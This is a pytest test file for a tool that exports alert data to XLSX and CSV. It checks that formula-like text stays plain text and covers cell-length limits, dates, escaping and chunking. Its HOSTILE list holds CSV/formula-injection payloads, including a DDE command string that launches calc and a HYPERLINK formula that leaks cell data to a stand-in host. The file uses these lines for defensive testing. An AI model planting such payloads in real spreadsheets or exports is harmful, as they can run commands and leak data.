"""alertdata.xlsx: hostile text stays text, the format's limits are handled,
and the CSV files stay a faithful copy of the same values."""
from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from alertdata import spreadsheet
from alertdata.pipeline import build
from alertdata.spreadsheet import CUT_AT, write_xlsx

ALERTS = Path(__file__).parent / "data" / "corpus" / "alerts"
# what a spreadsheet would run as a formula, typed into a cell or opened from CSV
HOSTILE = ["=1+1", "+A1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
           '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "\t=1+1", "\r=1+1",
           "=", "-", "＝1+1", "=1+1\n=2+2"]


def unescape(value):
    """openpyxl leaves OOXML's _xHHHH_ escapes (control characters) as they are."""
    if not isinstance(value, str):
        return value
    value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)
    return value


def cells(path: Path, sheet: str) -> list[tuple]:
    book = openpyxl.load_workbook(path)
    return [tuple(c for c in row) for row in book[sheet].iter_rows()]


def no_formulas(path: Path) -> bool:
    with zipfile.ZipFile(path) as z:
        return not any(re.search(rb"<f[ >]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_text_that_looks_like_a_formula_is_stored_as_text(tmp_path):
    path = tmp_path / "book.xlsx"
    write_xlsx({"statements": pa.table({"quote": HOSTILE, "n": list(range(len(HOSTILE)))})}, path,
               version="test")
    rows = cells(path, "statements")
    assert [c.value for c in rows[0]] == ["quote", "n"]
    assert [unescape(r[0].value) for r in rows[1:]] == HOSTILE
    assert {r[0].data_type for r in rows[1:]} == {"s"}        # text cells, not formulas ("f")
    assert [r[1].value for r in rows[1:]] == list(range(len(HOSTILE)))
    assert no_formulas(path)


def test_a_built_release_keeps_a_hostile_quote_as_text_in_xlsx_and_verbatim_in_csv(tmp_path):
    text = (ALERTS / "ca-0421-sudan.txt").read_text(encoding="utf-8")
    hostile = "=cmd|' /C calc'!A0 We did not start this war"
    text = text.replace("We did not start this war", hostile)
    assert hostile in text
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "sudan.txt").write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    build([tmp_path / "in"], out, jobs=1)

    with (out / "csv" / "statements.csv").open(encoding="utf-8", newline="") as fh:
        quotes = [row["quote"] for row in csv.DictReader(fh)]
    assert any(q.startswith(hostile) for q in quotes)      # the CSV holds the data as it is
    book = openpyxl.load_workbook(out / "alertdata.xlsx")
    header = [c.value for c in book["statements"][1]]
    column = header.index("quote")
    found = [row[column] for row in book["statements"].iter_rows(min_row=2)]
    assert [c.value for c in found] == quotes
    assert all(c.data_type == "s" for c in found)
    assert no_formulas(out / "alertdata.xlsx")
    assert "alertdata.xlsx" in (out / "SHA256SUMS").read_text()


def test_every_table_has_a_sheet_with_real_dates_and_joined_lists(tmp_path):
    out = tmp_path / "out"
    build([ALERTS / "ca-0421-sudan.txt"], out, jobs=1)
    book = openpyxl.load_workbook(out / "alertdata.xlsx")
    assert book.sheetnames[0] == "about"
    assert set(book.sheetnames[1:]) == {p.stem for p in (out / "csv").iterdir()}
    alerts = list(book["alerts"].iter_rows(values_only=True))
    row = dict(zip(alerts[0], alerts[1]))
    assert row["published_on"] == dt.datetime(2023, 4, 21)
    assert book["alerts"]["A2"].number_format == "yyyy-mm-dd" or any(
        c.number_format == "yyyy-mm-dd" for c in book["alerts"][2])
    with (out / "csv" / "alerts.csv").open(encoding="utf-8", newline="") as fh:
        assert row["authors"] == (next(csv.DictReader(fh))["authors"] or None)


def test_texts_longer_than_a_cell_are_cut_with_a_note(tmp_path):
    path = tmp_path / "book.xlsx"
    write_xlsx({"alerts": pa.table({"body": ["x" * 40_000, "short", None]})}, path, version="test")
    values = [r[0].value for r in cells(path, "alerts")[1:]]
    assert values[0].startswith("x" * CUT_AT) and values[0].endswith("the full text is in csv/alerts.csv]")
    assert len(values[0]) <= 32_767
    assert values[1] == "short"      # (openpyxl drops the trailing empty row)
    about = dict(cells_values(path, "about"))
    assert "1 text(s) longer than an Excel cell were cut" in about["alerts"]


def cells_values(path: Path, sheet: str):
    return [tuple(c.value for c in row) for row in cells(path, sheet)]


def test_a_table_longer_than_a_sheet_continues_on_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 4)
    path = tmp_path / "book.xlsx"
    write_xlsx({"events": pa.table({"k": list(range(10))})}, path, version="test")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["about", "events", "events (2)", "events (3)"]
    got = [v for s in book.sheetnames[1:] for (v,) in book[s].iter_rows(min_row=2, values_only=True)]
    assert got == list(range(10))
    assert all(book[s]["A1"].value == "k" for s in book.sheetnames[1:])


def test_the_workbook_bytes_depend_only_on_the_data(tmp_path):
    table = {"alerts": pa.table({"published_on": pa.array([dt.date(2024, 5, 1)], pa.date32())})}
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    write_xlsx(table, a, version="test", created=dt.date(2024, 5, 1))
    write_xlsx(table, b, version="test", created=dt.date(2024, 5, 1))
    assert a.read_bytes() == b.read_bytes()
    with zipfile.ZipFile(a) as z:
        assert z.testzip() is None
        assert b"2024-05-01T00:00:00Z" in z.read("docProps/core.xml")


@pytest.mark.parametrize("sheet", ["rejects"])
def test_an_empty_table_still_has_its_sheet_and_header(tmp_path, sheet):
    path = tmp_path / "book.xlsx"
    write_xlsx({sheet: pa.table({"source_path": pa.array([], pa.string())})}, path, version="test")
    assert cells_values(path, sheet) == [("source_path",)]


def test_crc32_combine_gives_the_crc_of_the_concatenation():
    import random
    import zlib
    rng = random.Random(7)
    for _ in range(50):
        a = rng.randbytes(rng.randrange(0, 3000))
        b = rng.randbytes(rng.randrange(0, 3000))
        assert spreadsheet.crc32_combine(zlib.crc32(a), zlib.crc32(b), len(b)) == zlib.crc32(a + b)


def mentions(n_alerts: int, marker: str = "") -> pa.Table:
    ids = [f"cw-{k}-20240501-1" for k in range(n_alerts) for _ in range(3)]
    return pa.table({"alert_id": ids, "surface": [f"Name {i}{marker}" for i in range(len(ids))],
                     "char_start": list(range(len(ids)))})


def test_a_sheet_of_many_chunks_reads_back_whole_and_a_rebuild_reuses_unchanged_chunks(tmp_path):
    table = mentions(400)
    first = write_xlsx({"actor_mentions": table}, tmp_path / "a.xlsx", version="test")
    assert len(first) > 3                       # several chunks
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert z.testzip() is None              # every entry's CRC and size hold
    got = list(openpyxl.load_workbook(tmp_path / "a.xlsx")["actor_mentions"].iter_rows(values_only=True))
    assert got[1:] == list(zip(*table.to_pydict().values()))

    again = write_xlsx({"actor_mentions": table}, tmp_path / "b.xlsx", version="test", reuse=first)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    assert again.keys() == first.keys()
    # one alert's rows changed: the other chunks are the earlier ones
    changed = table.set_column(1, "surface", pa.array(
        [s + ("!" if a == "cw-7-20240501-1" else "") for s, a in
         zip(table.column("surface").to_pylist(), table.column("alert_id").to_pylist())]))
    third = write_xlsx({"actor_mentions": changed}, tmp_path / "c.xlsx", version="test", reuse=first)
    assert len(set(third) - set(first)) == 1


def test_dates_excel_cannot_hold_are_text_and_control_characters_are_escaped(tmp_path):
    path = tmp_path / "book.xlsx"
    days = [dt.date(1884, 1, 1), dt.date(1900, 1, 1), dt.date(1900, 2, 28), dt.date(1900, 3, 1),
            dt.date(2024, 5, 1)]
    write_xlsx({"events": pa.table({"event_date": pa.array(days, pa.date32()),
                                    "summary": ["a\x01b", "x & <y>", "_x0041_", "\x1fz", "ok"]})},
               path, version="test")
    rows = cells(path, "events")[1:]
    assert rows[0][0].value == "1884-01-01" and rows[0][0].data_type == "s"
    assert [r[0].value for r in rows[1:]] == [dt.datetime(d.year, d.month, d.day) for d in days[1:]]
    assert [unescape(r[1].value) for r in rows] == ["a\x01b", "x & <y>", "_x0041_", "\x1fz", "ok"]
    assert rows[2][1].value == "_x005F_x0041_"      # escaped, so Excel does not read it as "A"


@pytest.mark.parametrize("seed", range(10))
def test_chunks_begin_where_an_alert_whose_id_is_picked_begins(seed):
    """Chunk bounds found in Arrow equal the row-by-row rule: a new chunk at
    the first row of each alert whose id's CRC is 0 modulo CHUNK_ALERTS."""
    import random
    import zlib

    rng = random.Random(seed)
    ids = []
    for _ in range(rng.randrange(1, 300)):
        ids += [rng.choice([None, *(f"cw-{k}-20240501-1" for k in range(60))])] * rng.randrange(1, 4)
    starts, previous = [0], ids[0]
    for i in range(1, len(ids)):
        if ids[i] != previous:
            previous = ids[i]
            if ids[i] is not None and zlib.crc32(ids[i].encode()) % spreadsheet.CHUNK_ALERTS == 0:
                starts.append(i)
    table = pa.concat_tables([pa.table({"alert_id": pa.array(ids[:5], pa.string())}),
                              pa.table({"alert_id": pa.array(ids[5:], pa.string())})])
    assert spreadsheet.chunk_bounds(table) == list(zip(starts, starts[1:] + [len(ids)]))
